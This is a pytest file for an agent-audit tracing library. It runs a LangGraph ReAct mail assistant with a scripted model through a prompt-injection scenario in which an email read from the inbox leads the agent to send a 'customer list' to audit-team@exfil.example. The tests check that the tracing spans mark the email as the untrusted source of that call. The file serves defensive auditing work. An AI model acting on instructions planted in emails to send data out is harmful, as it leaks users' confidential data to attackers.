"""The injection scenario through LangGraph's prebuilt ReAct agent, with a scripted model."""

from __future__ import annotations

import json
import warnings

import pytest
from langchain_core.messages import ToolMessage
from langgraph.checkpoint.memory import InMemorySaver

import agentaudit
from agentaudit.schema import attributes as A
from tests.frameworks.conftest import Spans
from tests.frameworks.langchain._scripted import (
    ScriptedChatModel,
    email_text,
    injection_script,
    prompt_hash,
    read_inbox,
    send_email,
)

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from langgraph.prebuilt import create_react_agent


def _agent(model: ScriptedChatModel) -> object:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # moved to langchain.agents in langgraph 1.x
        return create_react_agent(model, [read_inbox, send_email], checkpointer=InMemorySaver())


EXPECTED_SECOND_INPUT = [
    {"role": "user", "content": "Summarise my new email."},
    {
        "role": "assistant",
        "content": "",
        "tool_calls": [{"id": "call_1", "name": "read_inbox", "arguments": {"folder": "inbox"}}],
    },
    {
        "role": "tool",
        "content": email_text(),
        "tool_call_id": "call_1",
        "name": "read_inbox",
    },
]


def test_send_email_span_carries_the_injected_email_as_its_source(spans: Spans) -> None:
    model = ScriptedChatModel(replies=injection_script())
    agent = _agent(model)
    with agentaudit.context(agent="mail-assistant", user="bob", session="sess-1"):
        out = agent.invoke(  # type: ignore[attr-defined]
            {"messages": [("user", "Summarise my new email.")]},
            config={"configurable": {"thread_id": "thread-7"}},
        )

    # The agent saw exactly what it would have seen uninstrumented.
    tool_messages = [m for m in out["messages"] if isinstance(m, ToolMessage)]
    assert [m.content for m in tool_messages] == [email_text(), "sent to audit-team@exfil.example"]
    assert out["messages"][-1].content == "Done."

    span = spans.tool("send_email")
    attrs = dict(span.attributes or {})
    assert span.name == "execute_tool send_email"
    assert attrs[A.FRAMEWORK] == "langchain"
    assert attrs[A.GEN_AI_TOOL_CALL_ID] == "call_2"
    assert json.loads(str(attrs[A.GEN_AI_TOOL_CALL_ARGUMENTS])) == {
        "to": "audit-team@exfil.example",
        "body": "customer list",
    }
    assert attrs[A.ENDUSER_ID] == "bob"
    assert attrs[A.SESSION_ID] == "sess-1"
    assert attrs[A.GEN_AI_AGENT_ID] == "mail-assistant"
    assert attrs[A.GEN_AI_CONVERSATION_ID] == "thread-7"
    assert attrs[A.APPROVAL_STATUS] == "none"
    refs = list(attrs[A.SOURCE_REFS])  # type: ignore[arg-type]
    trust = dict(zip(refs, attrs[A.SOURCE_TRUST], strict=True))  # type: ignore[arg-type]
    kinds = dict(zip(refs, attrs[A.SOURCE_KINDS], strict=True))  # type: ignore[arg-type]
    assert trust["tool:read_inbox#call_1"] == "untrusted"
    assert kinds["tool:read_inbox#call_1"] == "tool_result"
    assert trust["email:msg-42"] == "untrusted"
    assert kinds["email:msg-42"] == "email"
    # The prompt hash is the hash of the model input that produced the call.
    assert attrs[A.PROMPT_HASH] == prompt_hash(EXPECTED_SECOND_INPUT)
    assert len(model.seen) == 3

    # read_inbox was produced by the first model input, which had no sources in it.
    first = dict(spans.tool("read_inbox").attributes or {})
    assert first[A.PROMPT_HASH] == prompt_hash(
        [{"role": "user", "content": "Summarise my new email."}]
    )
    assert A.SOURCE_REFS not in first
    assert first[A.RESULT_HASH].startswith("sha256:")  # type: ignore[union-attr]

    # One chat span per model call, carrying the same hashes.
    chats = spans.of(A.OPERATION_CHAT)
    assert len(chats) == 3
    assert [c.attributes[A.PROMPT_HASH] for c in chats][1] == attrs[A.PROMPT_HASH]  # type: ignore[index]
    assert all(c.attributes[A.ENDUSER_ID] == "bob" for c in chats)  # type: ignore[index]


def test_one_graph_run_is_one_trace_under_a_run_span(spans: Spans) -> None:
    agent = _agent(ScriptedChatModel(replies=injection_script()))
    with agentaudit.context(agent="mail-assistant", user="bob", session="sess-2"):
        agent.invoke(  # type: ignore[attr-defined]
            {"messages": [("user", "Summarise my new email.")]},
            config={"configurable": {"thread_id": "t-9"}},
        )
    (run,) = [s for s in spans.all() if s.parent is None]
    assert run.name == "LangGraph"
    assert (run.attributes or {})[A.GEN_AI_CONVERSATION_ID] == "t-9"
    assert run.context is not None
    children = [*spans.of(A.OPERATION_EXECUTE_TOOL), *spans.of(A.OPERATION_CHAT)]
    assert len(children) == 5
    for child in children:
        assert child.context is not None
        assert child.parent is not None
        assert child.context.trace_id == run.context.trace_id
        assert child.parent.span_id == run.context.span_id
    inbox, send = spans.tool("read_inbox"), spans.tool("send_email")
    assert inbox.status.is_ok
    assert send.status.is_ok


def test_uninstrumented_runs_emit_nothing_and_behave_the_same(spans: Spans) -> None:
    from langchain_core.tracers import context as tracer_context

    agentaudit.uninstrument()
    hooks_after = list(tracer_context._configure_hooks)
    assert not any(type(entry[0].get()).__name__ == "AuditCallbackHandler" for entry in hooks_after)
    agent = _agent(ScriptedChatModel(replies=injection_script()))
    out = agent.invoke(  # type: ignore[attr-defined]
        {"messages": [("user", "Summarise my new email.")]},
        config={"configurable": {"thread_id": "t"}},
    )
    assert out["messages"][-1].content == "Done."
    assert spans.all() == []


@pytest.mark.parametrize("rounds", [2])
def test_instrument_is_idempotent(spans: Spans, rounds: int) -> None:
    from langchain_core.tracers import context as tracer_context

    from agentaudit.instrumentation import langchain as integration

    for _ in range(rounds):
        integration.instrument()
    ours = [e for e in tracer_context._configure_hooks if e[0].get() is integration.handler()]
    assert len(ours) == 1
    agent = _agent(ScriptedChatModel(replies=injection_script()))
    with agentaudit.context(agent="a", user="u", session="s"):
        agent.invoke(  # type: ignore[attr-defined]
            {"messages": [("user", "go")]}, config={"configurable": {"thread_id": "t"}}
        )
    assert len(spans.tools("send_email")) == 1
